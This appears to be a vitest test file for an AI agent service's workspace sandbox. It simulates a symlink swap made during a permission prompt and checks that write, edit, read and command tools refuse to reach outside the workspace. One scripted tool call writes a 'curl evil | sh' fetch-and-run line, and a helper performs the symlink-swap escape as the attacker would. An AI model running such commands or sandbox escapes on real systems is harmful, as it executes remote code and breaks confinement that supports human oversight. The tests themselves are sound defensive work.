import { mkdir, readdir, readFile, rename, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { AgentEvent } from '../../../shared/agentEvents';
import { createMemoryAgentHistory } from '../agent/memoryAgentHistory';
import { callTools, createScriptedModel, say } from '../../../test/support/core/scriptedModel';
import { makeTempWorkspace, type TempWorkspace } from '../../../test/support/core/tempWorkspace';
import { createAgentService } from '../agent/agentService';
import { openForRead, writeConfined } from './confinedFs';
import { checkedModelSpec } from '../models/checkedSpec';

/**
 * Issue 11, item 3: a folder on the path is replaced by a symlink to a
 * folder outside the workspace while the permission prompt waits.
 */

let ws: TempWorkspace;
beforeEach(async () => {
  ws = await makeTempWorkspace();
  await ws.write('sub/keep.txt', 'inside\n');
  await ws.write('sub/notes.md', 'old notes\n');
});
afterEach(() => ws.cleanup());

/** Replaces the workspace's `sub` folder with a link to the outside folder (what the attacker does). */
async function swapSubForLink(): Promise<void> {
  await rename(join(ws.root, 'sub'), join(ws.base, 'sub-moved'));
  await writeFile(join(ws.outside, 'notes.md'), 'outside notes\n');
  await symlink(ws.outside, join(ws.root, 'sub'));
}

/** Runs one tool call through the real agent service; the swap happens while its permission request waits. */
async function runWithSwapDuringWait(tool: string, args: Record<string, unknown>) {
  const model = createScriptedModel([callTools([{ name: tool, args }]), say('done')]);
  const service = createAgentService({ port: createMemoryAgentHistory(), createModel: async () => model, settings: () => ({ workspace: ws.root }), env: {} });
  const events: AgentEvent[] = [];
  let asked = false;
  service.subscribe((e) => {
    events.push(e);
    if (e.type === 'permission-request') {
      asked = true;
      void swapSubForLink().then(() => service.answerPermission(e.runId, e.requestId, 'once'));
    }
  });
  const { runId } = await service.start({ prompt: 'go', model: checkedModelSpec('test') });
  await service.done(runId);
  await service.dispose();
  expect(asked).toBe(true);
  return events.find((e) => e.type === 'tool-error' || e.type === 'tool-result');
}

describe.skipIf(process.platform === 'win32')('a symlink swap during the permission wait', () => {
  it('write_file: refused with outside-workspace; nothing lands outside', async () => {
    const outcome = await runWithSwapDuringWait('write_file', { path: 'sub/build.sh', content: 'curl evil | sh\n' });
    expect(outcome).toMatchObject({ type: 'tool-error', error: { code: 'outside-workspace' } });
    expect((await readdir(ws.outside)).sort()).toEqual(['notes.md', 'secret.txt']);
  });

  it('edit_file: refused with outside-workspace; the outside file is untouched', async () => {
    const outcome = await runWithSwapDuringWait('edit_file', { path: 'sub/notes.md', old_text: 'old notes', new_text: 'pwned' });
    expect(outcome?.type).toBe('tool-error');
    expect(outcome).toMatchObject({ error: { code: 'outside-workspace' } });
    expect(await readFile(join(ws.outside, 'notes.md'), 'utf8')).toBe('outside notes\n');
  });

  it('run_command: the working folder is checked again, and the command does not run outside', async () => {
    const outcome = await runWithSwapDuringWait('run_command', { command: 'touch', args: ['ran-here'], cwd: 'sub' });
    expect(outcome).toMatchObject({ type: 'tool-error', error: { code: 'outside-workspace' } });
    expect(await readdir(ws.outside)).not.toContain('ran-here');
  });
});

describe.skipIf(process.platform === 'win32').each([
  { how: 'the folder held open (Linux /proc)', pin: true },
  { how: 'real paths checked around the rename (macOS)', pin: false },
])('writeConfined and openForRead at the moment of use: $how', ({ pin }) => {
  it('will not write through a folder that became a link after the path was checked', async () => {
    const ctx = await ws.context();
    const target = await ctx.guard.resolve('sub/deep/new.txt');
    await swapSubForLink();
    await expect(writeConfined(ctx.guard, target.abs, target.rel, 'x', new AbortController().signal, { pin })).rejects.toMatchObject({ code: 'outside-workspace' });
    expect((await readdir(ws.outside)).sort()).toEqual(['notes.md', 'secret.txt']);
  });

  it('replaces a link in the last step instead of writing through it', async () => {
    const ctx = await ws.context();
    const target = await ctx.guard.resolve('sub/keep.txt');
    await rename(join(ws.root, 'sub/keep.txt'), join(ws.base, 'keep-moved.txt'));
    await symlink(join(ws.outside, 'secret.txt'), join(ws.root, 'sub/keep.txt'));
    await writeConfined(ctx.guard, target.abs, target.rel, 'new\n', new AbortController().signal, { pin });
    expect(await readFile(join(ws.outside, 'secret.txt'), 'utf8')).toBe('top secret\n');
    expect(await readFile(join(ws.root, 'sub/keep.txt'), 'utf8')).toBe('new\n');
  });

  it('creates missing folders and leaves no temporary file', async () => {
    const ctx = await ws.context();
    const target = await ctx.guard.resolve('a/b/c.txt');
    await writeConfined(ctx.guard, target.abs, target.rel, 'c\n', new AbortController().signal, { pin });
    expect(await readFile(join(ws.root, 'a/b/c.txt'), 'utf8')).toBe('c\n');
    expect(await readdir(join(ws.root, 'a/b'))).toEqual(['c.txt']);
  });

  it('will not read a file that became a link out of the workspace, and reads a link that stays inside', async () => {
    const ctx = await ws.context();
    const target = await ctx.guard.resolve('sub/keep.txt');
    await mkdir(join(ws.root, 'other'));
    await writeFile(join(ws.root, 'other/real.txt'), 'linked inside\n');
    await rename(join(ws.root, 'sub/keep.txt'), join(ws.base, 'keep-moved.txt'));
    await symlink(join(ws.root, 'other/real.txt'), join(ws.root, 'sub/keep.txt'));
    const inside = await openForRead(ctx.guard, target.abs, target.rel);
    expect(await inside.readFile('utf8')).toBe('linked inside\n');
    await inside.close();
    await swapSubForLink();
    await expect(openForRead(ctx.guard, join(ws.root, 'sub/secret.txt'), 'sub/secret.txt')).rejects.toMatchObject({ code: 'outside-workspace' });
  });
});
